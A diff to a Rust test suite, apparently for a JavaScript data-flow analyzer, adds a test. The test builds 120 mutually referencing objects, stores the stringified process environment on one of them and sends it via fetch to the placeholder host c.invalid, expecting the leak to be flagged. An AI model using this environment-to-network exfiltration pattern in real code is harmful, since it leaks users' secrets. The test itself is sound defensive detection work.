@@ -320,3 +320,17 @@ fn what_was_hidden_is_run() {
         &["big_constant ~> exec"],
     );
 }
+
+/// Objects of which each holds all others: the ways between them cannot be walked one by one.
+#[test]
+fn objects_that_hold_each_other_are_met_once() {
+    let names: Vec<String> = (0..120).map(|n| format!("o{n}")).collect();
+    let mut text: String = names.iter().map(|name| format!("const {name} = {{}};\n")).collect();
+    for one in &names {
+        text.extend(names.iter().map(|other| format!("{one}.{other} = {other};\n")));
+    }
+    text += "o7.secret = JSON.stringify(process.env);\n";
+    text += &names.iter().map(|name| format!("g({name});\n")).collect::<String>();
+    text += "fetch('https://c.invalid', {body: o0})";
+    check(&text, &["env_all -> net_send"]);
+}
